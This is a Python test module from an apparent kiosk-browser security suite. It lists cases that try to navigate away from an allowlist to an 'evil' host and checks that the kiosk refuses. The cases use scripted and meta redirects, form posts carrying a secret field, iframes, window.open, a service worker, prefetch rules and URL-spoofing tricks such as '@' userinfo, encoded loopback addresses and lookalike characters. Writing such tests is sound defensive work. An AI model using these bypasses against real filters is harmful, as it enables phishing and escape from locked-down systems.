"""A: ways to a page that is not on the list."""

from kiosk.web.refusal import Refusal
from tests.siege.acts import await_, back, reload, tap
from tests.siege.case import (
    AFTER,
    EVERYWHERE,
    EVIL,
    SCRIPT,
    Bare,
    Case,
    allowed,
    either,
    hostile,
    refused,
    touched,
    trapped,
)
from tests.siege.listener import Reply

_ELSEWHERE = refused(Refusal.ELSEWHERE)
_UNREADABLE = refused(Refusal.MALFORMED, Refusal.ELSEWHERE)


def _away(status: int, to: str) -> Reply:
    return Reply(status=status, headers=(("Location", to),))


def link(to: str, more: str = "") -> str:
    """A link that fills the page."""
    return f'{SCRIPT}<a href="{to}" style="{EVERYWHERE}" {more}>Go on</a>'


def script(code: str) -> str:
    return f"{SCRIPT}<script>{code}</script>"


def button(code: str) -> str:
    """A button that fills the page."""
    return script("") + f"<button style='{EVERYWHERE}' onclick=\"{code}\">Go on</button>"


def _form(to: str) -> str:
    return (
        f'{SCRIPT}<form method=post action="{to}"><input name=secret value=typed-in-the-form>'
        f"<button style='{EVERYWHERE}'>Send</button></form>"
    )


NAVIGATION = (
    Case(id="A01", page=link(f"{EVIL}/A01"), act=(tap,), lands=hostile("/A01"), held=_ELSEWHERE),
    Case(
        id="A02",
        page=script(f"location = '{EVIL}/A02'"),
        ready=None,
        lands=hostile("/A02"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A03",
        page=f'<meta http-equiv=refresh content="0;url={EVIL}/A03">',
        ready=None,
        lands=hostile("/A03"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A04",
        page="Wait",
        headers=(("Refresh", f"0;url={EVIL}/A04"),),
        ready=None,
        lands=hostile("/A04"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A05",
        page=link("/away"),
        routes={"/away": _away(302, f"{EVIL}/A05")},
        act=(tap,),
        lands=hostile("/A05"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A06",
        page=link("/one"),
        routes={"/one": _away(301, "/two"), "/two": _away(302, f"{EVIL}/A06")},
        act=(tap,),
        lands=hostile("/A06"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A07",
        page=_form("/post"),
        routes={"/post": _away(307, f"{EVIL}/A07")},
        act=(tap,),
        lands=hostile("/A07"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A08",
        page=_form(f"{EVIL}/A08"),
        act=(tap,),
        lands=hostile("/A08"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A09",
        page=script("after()") + f"<iframe src='{EVIL}/A09'></iframe>",
        lands=hostile("/A09"),
        held=AFTER,
    ),
    Case(
        id="A10",
        page=script("after()") + "<iframe src=/away></iframe>",
        routes={"/away": _away(302, f"{EVIL}/A10")},
        lands=hostile("/A10"),
        held=AFTER,
    ),
    Case(
        id="A11-object",
        page=script("after()") + f"<object type=text/html data='{EVIL}/A11'></object>",
        lands=hostile("/A11"),
        held=AFTER,
    ),
    Case(
        id="A11-embed",
        page=script("after()") + f"<embed type=text/html src='{EVIL}/A11'>",
        lands=hostile("/A11"),
        held=AFTER,
    ),
    Case(
        id="A12",
        page=script(f"window.open('{EVIL}/A12'); after()"),
        ready=None,
        lands=either(hostile("/A12"), trapped("window")),
        held=AFTER,
    ),
    Case(
        id="A13",
        page=script("")
        + f"<button style='{EVERYWHERE}' onclick=\"window.open('{EVIL}/A13')\">Go</button>",
        act=(tap,),
        lands=hostile("/A13"),
        held=refused(Refusal.ELSEWHERE, Refusal.WINDOW),
    ),
    Case(
        id="A14",
        page=link(f"{EVIL}/A14", "target=_blank"),
        act=(tap,),
        lands=hostile("/A14"),
        held=refused(Refusal.ELSEWHERE, Refusal.WINDOW),
    ),
    Case(
        id="A15",
        page=script(
            "function go() { const it = window.open(''); try { it.document.write(`<script>location = "
            f"'{EVIL}/A15'</scr` + `ipt>`); }} catch (no) {{ }} after() }}"
        )
        + f"<button style='{EVERYWHERE}' onclick='go()'>Go</button>",
        act=(tap,),
        lands=either(hostile("/A15"), trapped("window"), trapped("page")),
        held=AFTER,
    ),
    Case(
        id="A16",
        begin="https://path.test/care/A16",
        routes={
            "path.test/care/A16": Reply(
                body=button("history.pushState(0, '', '/A16-outside'); after(50)").encode()
            )
        },
        act=(tap, await_(either(AFTER, _ELSEWHERE)), reload),
        lands=allowed("/A16-outside"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A17",
        page=link("https://care.test@evil.test/A17"),
        act=(tap,),
        lands=hostile("/A17"),
        held=_UNREADABLE,
    ),
    Case(
        id="A18",
        page=link("https://evil.test\\@care.test/A18"),
        act=(tap,),
        lands=hostile("/"),
        held=_UNREADABLE,
    ),
    Case(
        id="A19",
        page=link("ht&#10;tps&#9;://evil.test/A19"),
        act=(tap,),
        lands=hostile("/A19"),
        held=_UNREADABLE,
    ),
    Case(
        id="A20",
        page=link("https://a20.care.test./A20"),
        act=(tap,),
        lands=allowed("/A20", host="a20.care.test."),
        held=_UNREADABLE,
    ),
    *(
        Case(
            id=f"A21-{kind}",
            page=link(f"https://{host}:PORT/A21"),
            act=(tap,),
            lands=hostile("/A21"),
            held=refused(Refusal.PRIVATE, Refusal.MALFORMED),
        )
        for kind, host in {
            "decimal": "2130706433",
            "hex": "0x7f000001",
            "short": "127.1",
            "in-v6": "[::ffff:127.0.0.1]",
        }.items()
    ),
    Case(
        id="A22",
        page=link("https://care.test.evil.test/A22"),
        act=(tap,),
        lands=hostile("/A22"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A23",
        page=link("https://evilcare.test/A23"),
        act=(tap,),
        lands=hostile("/A23"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A24-letter",
        page=link("https://c&#1072;re.test/A24"),
        act=(tap,),
        lands=hostile("/A24"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A24-dot",
        page=link("https://care.test&#12290;evil.test/A24"),
        act=(tap,),
        lands=hostile("/A24"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A25",
        page=link("https://a25.care.test:8443/A25"),
        act=(tap,),
        lands=allowed("/A25", host="a25.care.test:8443"),
        held=_UNREADABLE,
    ),
    Case(
        id="A26",
        page=link("http://a26.care.test/A26"),
        act=(tap,),
        lands=allowed("/A26"),
        held=refused(Refusal.NOT_SECURE),
    ),
    *(
        Case(
            id=f"A28-{kind}",
            page=script("after(800)")
            + '<script type=speculationrules>{"'
            + kind
            + '":[{"source":"list","urls":["'
            + f'{EVIL}/A28"],"eagerness":"immediate"}}]}}</script>',
            lands=touched("hostile"),
            held=AFTER,
            bare=bare,
        )
        for kind, bare in (("prefetch", Bare.LANDS), ("prerender", Bare.REFUSES))
    ),
    *(
        Case(
            id=f"A29-{kind}",
            page=script("after()") + f'<link rel={kind} as=script href="{EVIL}/A29">',
            lands=hostile("/A29"),
            held=AFTER,
        )
        for kind in ("prefetch", "preload", "modulepreload")
    ),
    Case(
        id="A31-sandboxed",
        page="<iframe sandbox='allow-scripts allow-top-navigation' srcdoc=\""
        f"<script>top.location = '{EVIL}/A31'</script>\"></iframe>",
        ready=None,
        lands=hostile("/A31"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A31-srcdoc",
        page=f"<iframe srcdoc=\"<script>top.location = '{EVIL}/A31'</script>\"></iframe>",
        ready=None,
        lands=hostile("/A31"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A32",
        begin="https://path.test/care/A32",
        routes={
            "path.test/care/A32": Reply(
                body=(
                    script(
                        "const go = () => { history.pushState(0, '', '/A32-outside');"
                        " location = '/care/A32-next' }"
                    )
                    + f"<button style='{EVERYWHERE}' onclick='go()'>Go</button>"
                ).encode()
            ),
            "path.test/care/A32-next": Reply(body=script("tell('after')").encode()),
        },
        act=(tap, await_(either(AFTER, _ELSEWHERE)), back),
        lands=allowed("/A32-outside"),
        held=_ELSEWHERE,
    ),
    Case(
        id="A33",
        page=script(
            "navigator.serviceWorker.register('/worker.js').then(() => "
            "navigator.serviceWorker.ready).then(() => location = '/made')"
        ),
        routes={
            "/worker.js": Reply(
                kind="text/javascript",
                body=(
                    "onfetch = (it) => it.respondWith(new Response("
                    f"\"<script>location = '{EVIL}/A33'</script>\","
                    "{headers: {'Content-Type': 'text/html'}}));"
                    "oninstall = () => skipWaiting(); onactivate = (it) => it.waitUntil(clients.claim())"
                ).encode(),
            )
        },
        ready=None,
        lands=hostile("/A33"),
        held=_ELSEWHERE,
    ),
)
